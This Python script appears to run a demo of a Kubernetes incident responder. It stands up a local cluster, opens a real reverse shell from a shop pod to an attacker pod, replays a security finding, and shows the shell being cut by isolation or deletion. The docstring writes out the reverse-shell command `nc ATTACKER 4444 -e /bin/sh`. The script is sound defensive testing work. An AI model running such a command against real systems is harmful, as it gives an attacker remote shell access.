"""`make demo`: the responder against a real local cluster, explained in a responder's terms.

1. start the local cluster (built from Debian's kubernetes source on first use: ~4 min once, cached): etcd,
   kube-apiserver, controller-manager and, as root, a real node (containerd + kubelet + scheduler) sealed in its own
   network namespace,
2. seed two namespaces like a real shop: a Deployment with a Service and allowing NetworkPolicies; an attacker pod in
   a namespace of its own listens on 4444, and an "exploit" starts `nc ATTACKER 4444 -e /bin/sh` in one shop pod: a
   real reverse shell across the node's network, answering the attacker's commands (tests/support/reverse_shell.py),
3. replay a Reverse Shell finding built from one live pod per namespace through `python -m responder replay`, in
   enforce mode, as the responder's least-privilege identity, with the shipped policy.yaml:
   prod-* namespaces → isolate + detach + capture (the suspect keeps running for forensics; its ReplicaSet starts a
   clean pod),
   dev-*  namespaces → isolate, capture, delete (the ReplicaSet replaces it),
4. show what happened: what the attacker saw (the shell answering before, and when it stopped answering after the
   responder's isolating writes, or ended with the pod), the real `ps axjf` tree, the shell's own socket and the log
   tail captured from the container, policies, labels, the Running replacement pods, skipped steps and why.

`--json` prints only the decision records (one JSON line per finding).
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from kubernetes import client, config  # noqa: E402

from tests.support import reverse_shell as rs  # noqa: E402
from tests.support import workloads as w  # noqa: E402

# `make kube-up`'s cluster. RSR_DEMO_DIR names another one already running (the test session's): every node on a
# machine shares /var/log/pods and its kubelet removes the log folders of pods it does not know, so a second node
# next to a running one would erase the attacker's answers the demo reads.
TESTENV = Path(os.environ.get("RSR_DEMO_DIR") or ROOT / ".testenv")
QUARANTINE = "responder.rsr.dev/quarantine"
ATTACK_INTERVAL_S = 0.02  # the attacker's command rate: how precisely "when did the answers stop" is seen


def say(text: str = "", quiet: bool = False) -> None:
    if not quiet:
        print(text, flush=True)


def start_cluster(quiet: bool) -> dict[str, Any]:
    say("== 1. local cluster (etcd, kube-apiserver, controller-manager; as root a node: containerd + kubelet)", quiet)
    result = subprocess.run(
        [sys.executable, str(ROOT / "tools" / "kubeenv.py"), "up", "--dir", str(TESTENV)],
        stdout=sys.stderr if quiet else None,
        check=False,
    )
    if result.returncode != 0:
        raise SystemExit("could not start the local cluster; see the output above")
    state: dict[str, Any] = json.loads((TESTENV / "state.json").read_text())
    return state


def apply_rbac(api: client.ApiClient, identity: str) -> None:
    import yaml
    from kubernetes import utils

    text = (ROOT / "deploy" / "kubernetes" / "rbac.yaml").read_text().replace("${responder_identity}", identity)
    for doc in yaml.safe_load_all(text):
        try:
            utils.create_from_dict(api, doc)
        except utils.FailToCreateError as exc:
            if any(getattr(e, "status", None) != 409 for e in exc.api_exceptions):
                raise


def guard_line(api: client.ApiClient) -> str:
    """Whether the apiserver enforces deploy/kubernetes/admission-guard.yaml on the responder's identity."""
    import yaml

    docs = yaml.safe_load_all((ROOT / "deploy" / "kubernetes" / "admission-guard.yaml").read_text())
    name = next(d for d in docs if d and d["kind"] == "ValidatingAdmissionPolicy")["metadata"]["name"]
    try:
        binding = client.AdmissionregistrationV1Api(api).read_validating_admission_policy_binding(name)
    except client.ApiException as exc:
        if exc.status == 404:
            return f"admission guard {name}: NOT installed (this apiserver predates ValidatingAdmissionPolicy)"
        raise
    return f"admission guard {name}: on, enforced by the apiserver ({', '.join(binding.spec.validation_actions)})"


def seed(api: client.ApiClient, namespace: str, node: bool) -> list[Any]:
    client.CoreV1Api(api).create_namespace(
        {"metadata": {"name": namespace, "labels": {"rsr-demo": "true", "owner": "shop-team"}}}
    )
    if node:
        w.create_running_deployment(api, namespace, "web", replicas=3, command=rs.VICTIM)
    else:
        w.create_deployment(api, namespace, "web", replicas=3)  # no node: the pods stay Pending
    w.create_service(api, namespace, "web", {"app": "web"})
    w.create_policy(api, namespace, "allow-web", {"app": "web"})
    w.create_policy(api, namespace, "allow-all-egress")
    if node:
        return w.wait_for_running(api, namespace, 3, "app=web", timeout_s=120)
    return w.wait_for_pods(api, namespace, 3, "app=web")


def finding_for(namespace: str, pod: str, suffix: str) -> Path:
    """A Reverse Shell finding about the live pod: SCC's shape (the repository's sample), this pod's identity, now."""
    doc = json.loads((ROOT / "tests" / "corpus" / "reverse_shell_v1.json").read_text())
    f = doc["finding"]
    f["name"] = f["name"].rsplit("/", 1)[0] + "/" + suffix
    f["canonicalName"] = f["canonicalName"].rsplit("/", 1)[0] + "/" + suffix
    f["sourceProperties"].update({"Pod_Namespace": namespace, "Pod_Name": pod, "Container_Name": "api"})
    # The reverse shell happens now, in the pod just seeded: a pod created after a finding's event is recognised as
    # a same-named replacement and left alone, so the sample's own (past) event time would protect the pod.
    now = datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    f["eventTime"] = f["createTime"] = now
    f["kubernetes"]["pods"][0].update({"ns": namespace, "name": pod})
    return finding_file(doc, suffix)


def finding_file(doc: dict[str, Any], suffix: str) -> Path:
    path = Path(tempfile.mkdtemp(prefix="rsr-demo-")) / f"finding-{suffix}.json"
    path.write_text(json.dumps(doc))
    return path


def replay(path: Path, state: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any] | None]:
    """(decision record, incident report) of `python -m responder replay FILE --report json`.

    The operator states what the cluster's NetworkPolicy dataplane does to established connections, as on GKE the
    responder reads it from the cluster: here kubeenv's (RSR_NETPOL, `established` by default)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("RESPONDER_")}
    env.update(
        {
            "RESPONDER_MODE": "enforce",
            "RESPONDER_KUBECONFIG": state["responder_kubeconfig"],
            # There is no Security Command Center on this machine to re-read the finding from; in production leave
            # verification on (the default), so a forged Pub/Sub message cannot trigger a deletion.
            "RESPONDER_VERIFY_FINDING": "false",
            "RESPONDER_BUDGET_MAX": "100",
            "RESPONDER_NETPOL_ENFORCEMENT": ((state.get("node") or {}).get("netpol") or {}).get("mode", "none"),
        }
    )
    result = subprocess.run(
        [sys.executable, "-m", "responder", "replay", str(path), "--report", "json"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    if result.returncode not in (0, 2):
        raise SystemExit(f"replay failed ({result.returncode}):\n{result.stderr}")
    # With --report the decision record goes to stderr (one JSON line) and the incident report to stdout.
    records = [json.loads(line) for line in result.stderr.splitlines() if line.startswith('{"')]
    record: dict[str, Any] = next(r for r in reversed(records) if "verdict" in r)
    report = json.loads(result.stdout) if result.stdout.strip() else None
    return record, report


def show_evidence(report: dict[str, Any] | None) -> None:
    inspect = (report or {}).get("inspect") or {}
    tree = inspect.get("process_tree")
    if tree:
        say(f"   process tree ({inspect.get('process_tree_note')}):")
        for line in tree.rstrip().splitlines():
            say(f"     | {line}")
    else:
        say(f"   process tree: {inspect.get('process_tree_note', 'not captured')}")
    connection = inspect.get("connection")
    if connection:
        say(f"   sockets: {connection.get('why')}")
    tail = ((report or {}).get("logs") or {}).get("captured_tail")
    if tail:
        say("   container log tail captured before containment:")
        for line in tail.rstrip().splitlines()[-6:]:
            say(f"     | {line}")


def show_record(record: dict[str, Any]) -> None:
    pod = record["pod"] or {}
    say(f"   verdict  {record['verdict']} ({record['reason']})")
    say(f"   pod      {pod.get('namespace')}/{pod.get('name')}   rule: {record.get('rule')}   mode: {record['mode']}")
    for a in record["actions"]:
        say(f"   - {a['action']:<8} {a['status']:<9} {a['reason']}")
        for note in a.get("details", {}).get("notes", []):
            say(f"       note: {note}")
    for a in record.get("writebacks", []):
        say(f"   - {a['action']:<8} {a['status']:<9} {a['reason']}  (written back to SCC)")
    for s in record.get("skipped", []):
        say(f"   - skipped: {s}")


def show_cluster(api: client.ApiClient, namespace: str, suspect: Any) -> None:
    say(f"   cluster state in {namespace}:")
    for name, p in sorted(w.policies(api, namespace).items()):
        sel = p.spec.pod_selector
        exprs = [f"{e.key} {e.operator} {e.values}" for e in (sel.match_expressions or [])]
        say(
            f"     NetworkPolicy {name:<26} selects {sel.match_labels or '{all pods}'} {' AND '.join(exprs)}"
            f"  types={p.spec.policy_types}"
        )
    core = client.CoreV1Api(api)
    for p in core.list_namespaced_pod(namespace).items:
        tag = "  <- the compromised pod" if p.metadata.uid == suspect.metadata.uid else ""
        state = "terminating" if p.metadata.deletion_timestamp else (p.status.phase or "?")
        say(f"     Pod {p.metadata.name:<24} {state:<11} labels={p.metadata.labels}{tag}")


def attack(api: client.ApiClient, namespace: str, suspect: Any, quiet: bool) -> rs.Shell:
    attackers = rs.create_namespace(api, f"c2-{namespace}")
    client.CoreV1Api(api).patch_namespace(attackers, {"metadata": {"labels": {"rsr-demo": "true"}}})
    shell = rs.open_shell(api, namespace, attackers, victim=suspect, interval_s=ATTACK_INTERVAL_S)
    time.sleep(2)
    now = datetime.now(UTC)
    answered = shell.answered_in(now - timedelta(seconds=2), now)  # sent every ATTACK_INTERVAL_S
    say(
        f"   attacker: pod c2 in {attackers} ({shell.attacker_ip}) holds a shell from {suspect.metadata.name} "
        f"({shell.victim_ip}:{shell.victim_port}): {answered} commands answered in the last 2 s",
        quiet,
    )
    return shell


def attacker_view(shell: rs.Shell, written: list[datetime]) -> dict[str, Any]:
    """What the attacker saw, for --json: whether the shell was cut, and when relative to the isolating writes."""
    last = shell.wait_for_silence(quiet_s=3.0, timeout_s=45.0)
    after = None if last is None else shell.answered_in(last + timedelta(milliseconds=1), datetime.now(UTC))
    return {
        "namespace": shell.attacker_namespace,
        "victim": f"{shell.victim_namespace}/{shell.victim_pod.metadata.name}",
        "cut": last is not None,
        "last_answer_ms_after_writes": (
            round((last - written[0]).total_seconds() * 1000) if last is not None and written else None
        ),
        "answers_after_last": after,
    }


def what_the_attacker_saw(shell: rs.Shell, written: list[datetime], replayed: datetime) -> None:
    last = shell.wait_for_silence(quiet_s=3.0, timeout_s=45.0)
    if last is None:
        say("   attacker: STILL ANSWERED 45 s after the responder finished: the shell is alive")
        return
    later = shell.answered_in(last + timedelta(milliseconds=1), datetime.now(UTC))
    if written:
        ms = (last - written[0]).total_seconds() * 1000
        when = f"{ms:.0f} ms after" if ms >= 0 else f"{-ms:.0f} ms before"
        say(
            f"   attacker: the shell stopped answering; last answer {when} the apiserver announced the quarantine "
            "label "
            f"(commands every {ATTACK_INTERVAL_S * 1000:.0f} ms); {later} answers since, commands still being sent"
        )
    else:
        ms = (last - replayed).total_seconds() * 1000
        say(f"   attacker: last answer {ms:.0f} ms after the responder finished; {later} since")


def scenario(api: client.ApiClient, state: dict[str, Any], namespace: str, title: str, json_out: bool) -> None:
    quiet = json_out
    node = state.get("mode") == "node"
    say(f"\n== {title}", quiet)
    pods = seed(api, namespace, node)
    suspect = pods[0]
    say(
        f"   seeded Deployment web x3 ({'Running' if node else 'Pending: no node'}), Service web, NetworkPolicies "
        f"allow-web + allow-all-egress; finding built from {suspect.metadata.name}",
        quiet,
    )
    shell = attack(api, namespace, suspect, quiet) if node else None
    stop = threading.Event()
    written: list[datetime] = []
    watcher = threading.Thread(
        target=lambda: written.extend(rs.labelled_at(api, namespace, suspect.metadata.name, QUARANTINE, stop))
    )
    watcher.start()
    try:
        path = (
            finding_file(shell.finding(), uuid.uuid4().hex)
            if shell
            else finding_for(namespace, suspect.metadata.name, uuid.uuid4().hex)
        )
        record, report = replay(path, state)
    finally:
        stop.set()
        watcher.join()
    replayed = datetime.now(UTC)
    if json_out:
        print(json.dumps(record), flush=True)
        if shell is not None:
            print(json.dumps({"attacker": attacker_view(shell, written)}), flush=True)
        return
    show_record(record)
    if shell is not None:
        what_the_attacker_saw(shell, written, replayed)
    show_evidence(report)
    # The controller-manager reacts asynchronously: give the ReplicaSet a moment to create the replacement.
    started = time.monotonic()
    try:
        if node:
            w.wait_for_running(api, namespace, 3, "app=web", timeout_s=60, exclude_uids={suspect.metadata.uid})
            say(f"   replacement Running {time.monotonic() - started:.1f}s after the responder finished")
        else:
            w.wait_for_pods(api, namespace, 3, "app=web", timeout_s=30, exclude_uids={suspect.metadata.uid})
    except AssertionError:
        say("   (no replacement pod within the wait)")
    time.sleep(0.5)
    show_cluster(api, namespace, suspect)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--json", action="store_true", help="print only the decision records")
    args = parser.parse_args()
    state = start_cluster(args.json)
    if state.get("mode") != "node":
        say(
            "   NOTE: no node (it needs root): pods stay Pending, so no process tree can be captured and replacements "
            "stay Pending. Run `sudo make demo` for the real thing.",
            args.json,
        )
    api = config.new_client_from_config(config_file=state["kubeconfig"])
    apply_rbac(api, state["responder_identity"])
    for ns in client.CoreV1Api(api).list_namespace(label_selector="rsr-demo=true").items:
        client.CoreV1Api(api).delete_namespace(ns.metadata.name)  # earlier demo runs
    run = uuid.uuid4().hex[:5]
    say(f"   Kubernetes v{state['version']}; {guard_line(api)}", args.json)
    rights = "deploy/kubernetes/rbac.yaml + rbac-capture.yaml"
    say(f"   responder identity: {state['responder_identity']} (rights: {rights})", args.json)
    scenario(api, state, f"prod-shop-{run}", "2. production namespace: policy rule production-isolate", args.json)
    scenario(api, state, f"dev-shop-{run}", "3. development namespace: policy rule development-delete", args.json)
    say(
        "\nThe cluster keeps running: kubectl --kubeconfig .testenv/kubeconfig get pods,networkpolicies -A"
        "\nStop it with: make kube-down",
        args.json,
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
